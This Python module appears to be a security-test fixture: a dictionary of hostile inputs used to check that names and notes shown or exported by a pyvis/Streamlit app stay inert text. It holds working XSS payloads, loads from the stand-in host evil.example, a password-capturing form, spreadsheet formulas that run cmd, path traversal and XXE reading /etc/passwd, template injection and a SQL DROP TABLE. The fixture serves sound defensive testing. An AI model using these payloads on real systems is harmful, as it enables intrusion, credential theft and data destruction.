"""Hostile text: what must stay text wherever a name, a note or an id from a file is shown or exported.

Each payload leaves a mark if it runs: it sets ``window.ran`` (or that of a parent or opener), opens a dialog, or asks
the host ``evil.example``. The groups follow the places such text usually gets into: HTML, attributes, scripts, styles,
templates, Markdown, formulas, addresses, and the ways of pyvis and Streamlit (see ``docs/security.md``).
"""

from collections.abc import Mapping

MARK = "ran"  # property of window that a payload sets
HOST = "evil.example"  # host that a payload asks

_RUN = f"top.{MARK}=parent.{MARK}=window.{MARK}=1"

PAYLOADS: Mapping[str, str] = {
    # elements that run something
    "script": f"<script>{_RUN}</script>",
    "script after closing a script": f"</script><script>{_RUN}</script>",
    "script after closing a title": f"</title><script>{_RUN}</script>",
    "script after closing a textarea": f"</textarea><script>{_RUN}</script>",
    "script after closing a comment": f"--><script>{_RUN}</script>",
    "script in mixed case": f"<ScRiPt>{_RUN}</sCrIpT>",
    "script from another host": f"<script src=//{HOST}/a.js></script>",
    "script inside a script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "module": f"<script type=module>{_RUN}</script>",
    "image": f"<img src=x onerror={_RUN}>",
    "image from another host": f"<img src=http://{HOST}/pixel.png>",
    "image without blanks": f"<img/src/onerror={_RUN}>",
    "drawing": f"<svg onload={_RUN}>",
    "drawing after closing a script": f"</script><svg/onload={_RUN}>",
    "animation": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "foreign object": f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    "formula of mathematics": f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    "frame": f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    "frame with an address": f"<iframe src=javascript:{_RUN}></iframe>",
    "object": f"<object data=http://{HOST}/a></object>",
    "embedded": f"<embed src=http://{HOST}/a>",
    "film": f"<video><source onerror={_RUN}></video>",
    "details": f"<details open ontoggle={_RUN}>",
    "focus": f"<input autofocus onfocus={_RUN}>",
    "body": f"<body onload={_RUN}>",
    "marquee": f"<marquee onstart={_RUN}>",
    "template": f"<template><script>{_RUN}</script></template><slot>",
    # elements that change the page or send the visitor away
    "base": f"<base href=http://{HOST}/>",
    "refresh": f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>",
    "style sheet": f"<link rel=stylesheet href=http://{HOST}/a.css>",
    "style": f"<style>@import url(http://{HOST}/a.css);</style>",
    "style after closing a style": f"</style><img src=x onerror={_RUN}>",
    "form over the page": f"<form action=http://{HOST}/ style='position:fixed;inset:0'><input name=password></form>",
    "link": f"<a href=javascript:{_RUN}>here</a>",
    # out of an attribute
    "out of double quotes": f'"><img src=x onerror={_RUN}>',
    "out of single quotes": f"'><img src=x onerror={_RUN}>",
    "another attribute": f'" autofocus onfocus="{_RUN}" x="',
    "another attribute in single quotes": f"' onmouseover='{_RUN}' x='",
    "out of a list of options": f"</option></select><img src=x onerror={_RUN}>",
    "title with a reference": f"href <img src=x onerror={_RUN}>",
    # out of a script or an object
    "out of a string": f'";{_RUN};//',
    "out of a string in single quotes": f"';{_RUN};//",
    "out of a template string": f"`;{_RUN};//${{{_RUN}}}",
    "out of a call": f'"}});{_RUN};({{"a":"',
    "line separator": f"\u2028{_RUN}\u2029",
    "prototype": "__proto__",
    "constructor": "constructor",
    "escaped sign": f"\\u003cimg src=x onerror={_RUN}\\u003e",
    "entity": f"&lt;img src=x onerror={_RUN}&gt;&#60;img src=x onerror={_RUN}&#62;",
    # templates
    "Jinja": "{{ self.__init__.__globals__ }}{% for x in () %}",
    "format string": "{0.__class__} {value} %s %(name)s",
    "Vega expression": f"datum.name + event.view.{MARK}",
    # Markdown
    "Markdown image": f"![a](http://{HOST}/pixel.png)",
    "Markdown link": f"[here](javascript:{_RUN})",
    "Markdown automatic link": f"<http://{HOST}/>",
    "Markdown with HTML": f"**a** <img src=x onerror={_RUN}>",
    "Markdown fence": f"```html\n<script>{_RUN}</script>\n```",
    "TeX": r"$\href{http://evil.example}{a}$ $$\unicode{x}$$",
    "icon": ":material/warning: :red[a] :streamlit:",
    # what a spreadsheet runs
    "formula": f'=HYPERLINK("http://{HOST}/","a")',
    "formula with a command": "=cmd|'/C calc'!A0",
    "formula with plus": "+1+cmd|'/C calc'!A0",
    "formula with minus": "-1+cmd|'/C calc'!A0",
    "formula with at": '@SUM(1+1)*cmd|"/C calc"!A0',
    "formula in full width": f'＝HYPERLINK("http://{HOST}/")',
    "web service": f'=WEBSERVICE("http://{HOST}/")',
    # addresses and paths
    "address that is a script": f"javascript:{_RUN}",
    "address with data": f"data:text/html,<script>{_RUN}</script>",
    "address without scheme": f"//{HOST}/",
    "path": "../../../../etc/passwd",
    # text direction and look-alikes
    "turned text": "\u202egnp.exe\u202c",
    "invisible": "a\u200b\u200d\ufeffb",
    # documents
    "entities of XML": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "Typst": '#read("/etc/passwd") #eval("1") $x$ @a <b>',
    "query": "'; DROP TABLE actors; --",
}
